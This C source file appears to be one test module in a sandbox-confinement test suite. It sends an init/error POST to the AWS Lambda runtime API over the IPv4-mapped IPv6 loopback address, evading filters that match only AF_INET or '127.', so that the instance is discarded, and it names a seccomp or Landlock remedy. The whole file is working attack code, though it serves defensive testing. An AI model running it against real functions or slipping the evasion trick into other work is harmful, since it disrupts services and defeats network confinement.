// SPDX-License-Identifier: MIT
/*
 * Goal:  the platform throws the whole instance away.
 * Means: POST .../runtime/init/error. It needs no request's id: a single message says that the
 *        function could not start. It goes over an IPv6 socket to the mapped address of the
 *        loopback, which a rule for AF_INET or for "127." does not name.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	static const char ask[] = "POST /2018-06-01/runtime/init/error HTTP/1.1\r\n"
				  "Host: 127.0.0.1\r\nContent-Length: 2\r\n\r\n{}";
	struct sockaddr_in6 to = { .sin6_family = AF_INET6,
				   .sin6_port = htons((unsigned short)b->api) };
	char reply[512];
	int api;

	inet_pton(AF_INET6, "::ffff:127.0.0.1", &to.sin6_addr);
	attempting(b);
	api = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (api < 0)
		return denied("socket AF_INET6");
	if (connect(api, (struct sockaddr *)&to, sizeof(to)))
		return denied("connect");
	if (send(api, ask, sizeof(ask) - 1, MSG_NOSIGNAL) < 0)
		return denied("send");
	return read(api, reply, sizeof(reply)) > 0 ? CLAIM_DONE : denied("read");
}

const struct attack attack = {
	.effect = "the instance is reported as broken, and thrown away",
	.means = "POST .../init/error to ::ffff:127.0.0.1",
	.oracle = "api:init-error",
	.needs = NEED_IPV6,
	.id = "LAPI-03",
	.attack_id = "T1489, CWE-306",
	.remedy = "seccomp without socket, or Landlock without connect_tcp",
	.refs = (const char *const[]){ "AWS Lambda runtime API, Initialization error", NULL },
	.run = run,
};
